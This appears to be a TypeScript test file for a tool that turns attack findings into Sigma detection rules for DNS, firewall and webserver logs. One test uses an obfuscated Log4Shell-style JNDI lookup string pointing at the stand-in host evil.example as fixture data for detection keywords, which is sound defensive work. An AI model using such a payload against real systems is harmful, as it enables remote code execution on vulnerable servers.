import fc from 'fast-check'
import { expect, test } from 'vitest'
import { parseAllDocuments } from 'yaml'
import { validateSigma } from '../../../test/kit/documents/sigma.ts'
import { anyAttack, anyGap, documentOf, huntHeader, sampleAttacks } from '../../../test/kit/generated-results.ts'
import type { AttackFinding } from '../../core/index.ts'
import { sigma } from './sigma.ts'

interface Rule {
  readonly id: string
  readonly logsource: { readonly category: string }
  readonly detection: Readonly<Record<string, unknown>>
}

function rulesOf(findings: readonly AttackFinding[], gaps: Parameters<typeof documentOf>[2] = []): readonly Rule[] {
  const documents = [...parseAllDocuments(documentOf(sigma, findings, gaps, { header: huntHeader }))]
  return documents.flatMap((document) => {
    expect(document.errors).toEqual([])
    const rule = document.toJS() as Rule | null
    return rule === null ? [] : [rule]
  })
}

const [sample] = sampleAttacks(1)
const attack = (lookup: Partial<AttackFinding['lookup']>, over: Partial<AttackFinding> = {}): AttackFinding => ({
  ...sample!,
  verdict: 'fires',
  ...over,
  lookup: { ...sample!.lookup, domain: null, ...lookup },
})

test('is YAML whose rules keep to the schema of Sigma, whatever was found', () => {
  fc.assert(
    fc.property(fc.array(anyAttack, { maxLength: 4 }), fc.array(anyGap, { maxLength: 3 }), (findings, gaps) => {
      for (const rule of rulesOf(findings, gaps)) {
        validateSigma(rule)
        expect(validateSigma.errors ?? []).toEqual([])
      }
    }),
    { numRuns: 100 },
  )
})

test('finds the names and addresses that attacks ask for, and requests like theirs', () => {
  const raw = '${${::-j}ndi:ldap://*.evil.example/\\x?}'
  const rules = rulesOf([
    attack({ host: 'evil.example', raw }),
    attack({ host: '203.0.113.7', raw }),
    attack({ host: '192.168.0.1', raw }),
  ])

  expect(rules.map(({ logsource, detection }) => [logsource.category, detection])).toEqual([
    [
      'dns',
      {
        name: { query: ['evil.example'] },
        below: { 'query|endswith': ['.evil.example'] },
        condition: 'name or below',
      },
    ],
    ['firewall', { selection: { dst_ip: ['203.0.113.7'] }, condition: 'selection' }],
    ['webserver', { keywords: ['${${::-j}ndi:ldap://\\*.evil.example/\\\\x\\?}'], condition: 'keywords' }],
  ])
})

test('what no release evaluates makes no rule', () => {
  expect(rulesOf([attack({ host: 'evil.example' }, { verdict: 'attempt' })])).toEqual([])
})
